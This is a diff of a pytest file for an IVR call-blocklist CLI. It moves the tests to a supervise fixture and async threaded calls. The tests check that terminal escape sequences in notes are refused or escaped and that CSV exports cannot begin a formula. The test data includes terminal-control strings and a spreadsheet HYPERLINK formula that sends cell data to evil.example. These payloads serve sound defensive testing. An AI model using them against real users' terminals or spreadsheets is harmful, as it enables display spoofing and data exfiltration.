@@ -8,21 +8,24 @@ and world-readable data and exports.
 
 from __future__ import annotations
 
+import asyncio
 import json
 import os
 import sqlite3
 import stat
 import subprocess
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.support.cli import IVR, ME, ivr_json, run_ivr, setup
+from tests.support.cli import IVR, ME, as_user, ivr_json, run_ivr
 from tests.support.recordings import cli_env, spool_failopen, storage_cfg
 from tests.support.service import Service
 
-PROPOSE = ["blocklist", "propose", "0312345678", "--category", "threats", "--as", "alice"]
+PROPOSE = ["blocklist", "propose", "0312345678", "--category", "threats"]
+Supervise = Callable[..., dict[str, str]]
 HOSTILE = [
     "\x1b[2K\x1b[1Aall clear",  # erase the line, move up: rewrites what was printed before
     "\x1b]0;owned\x07",  # OSC: sets the terminal's title
@@ -32,12 +35,19 @@ HOSTILE = [
 ]
 
 
+async def ivr(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    """`ivr` in a thread: the service that answers it runs on this test's event loop."""
+    return await asyncio.to_thread(run_ivr, args, env)
+
+
 def _mode(path: Path) -> int:
     return stat.S_IMODE(path.stat().st_mode)
 
 
-def test_notes_with_control_or_direction_characters_are_refused(tmp_path: Path) -> None:
-    env = setup(tmp_path)
+def test_notes_with_control_or_direction_characters_are_refused(
+    tmp_path: Path, supervise: Supervise
+) -> None:
+    env = supervise(tmp_path)
     for note in HOSTILE:
         res = run_ivr([*PROPOSE, "--note", note], env)
         assert res.returncode == 4, res.stderr
@@ -46,9 +56,9 @@ def test_notes_with_control_or_direction_characters_are_refused(tmp_path: Path) 
     assert ivr_json(["audit", "log"], env) == []
 
 
-def test_stored_hostile_text_is_printed_escaped(tmp_path: Path) -> None:
+def test_stored_hostile_text_is_printed_escaped(tmp_path: Path, supervise: Supervise) -> None:
     """Rows written before the check (or by SQL) still cannot drive the terminal."""
-    env = setup(tmp_path)
+    env = supervise(tmp_path)
     db = sqlite3.connect(tmp_path / "data" / "ivr.sqlite3")
     db.execute(
         "INSERT INTO blocklist_entries (pattern, is_prefix, status, action, category, note,"
@@ -65,8 +75,8 @@ def test_stored_hostile_text_is_printed_escaped(tmp_path: Path) -> None:
     assert not any(line.startswith("calls refused: 99") for line in res.stdout.splitlines())
 
 
-def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
-    env = setup(tmp_path)
+def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path, supervise: Supervise) -> None:
+    env = supervise(tmp_path)
     ivr_json([*PROPOSE, "--note", '=HYPERLINK("http://evil.example/?"&A1,"click")'], env)
     res = run_ivr(["blocklist", "export"], env)
     assert res.returncode == 0, res.stderr
@@ -76,8 +86,8 @@ def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
     # What is exported imports back unchanged (the apostrophe is ours, and is removed).
     exported = tmp_path / "out.csv"
     exported.write_text(res.stdout)
-    ivr_json(["blocklist", "reject", "1", "--note", "re-import", "--as", "bob"], env)
-    res = run_ivr(["blocklist", "import", str(exported), "--as", "alice"], env)
+    ivr_json(["blocklist", "reject", "1", "--note", "re-import"], as_user(env, "suzuki"))
+    res = run_ivr(["blocklist", "import", str(exported)], env)
     assert res.returncode == 0, res.stderr
     entries = ivr_json(["blocklist", "list", "--status", "pending"], env)
     assert [(e["pattern"], e["note"][:11]) for e in entries] == [("+81312345678", "=HYPERLINK(")]
@@ -113,11 +123,12 @@ async def test_export_failures_are_one_line_and_exports_private(
     spool_failopen(svc, 1)
     await svc.app.handoff.scan_once()
     env = cli_env(svc, tmp_path / "cli.toml")
-    res = run_ivr(["recordings", "export", "failopen-1795.0.wav", "--to", "/nonexist/x.wav"], env)
+    res = await ivr(["recordings", "export", "failopen-1795.0.wav", "--to", "/nonexist/x.wav"], env)
     assert res.returncode == 4
     assert res.stderr.strip().splitlines() == ["invalid: /nonexist: no such folder"]
     out = tmp_path / "copy.wav"
-    res = subprocess.run(
+    res = await asyncio.to_thread(
+        subprocess.run,
         ["sh", "-c", f"umask 000 && {IVR} recordings export failopen-1795.0.wav --to {out}"],
         env=env,
         capture_output=True,
@@ -131,12 +142,12 @@ async def test_export_failures_are_one_line_and_exports_private(
     db = sqlite3.connect(svc.cfg.database_url().removeprefix("sqlite+aiosqlite:///"))
     db.execute("BEGIN IMMEDIATE")
     try:
-        res = run_ivr(["recordings", "export", "failopen-1795.0.wav", "--to", str(locked)], env)
+        res = await ivr(["recordings", "export", "failopen-1795.0.wav", "--to", str(locked)], env)
     finally:
         db.rollback()
         db.close()
     assert res.returncode == 1 and "locked" in res.stderr
     assert not locked.exists()
     assert not list(tmp_path.glob(".locked.wav.*"))
-    trail = json.loads(run_ivr(["audit", "log", "--json"], env).stdout)
+    trail = json.loads((await ivr(["audit", "log", "--json"], env)).stdout)
     assert [e["reason"] for e in trail if e["action"] == "rec-export"] == [f"to {out}"]
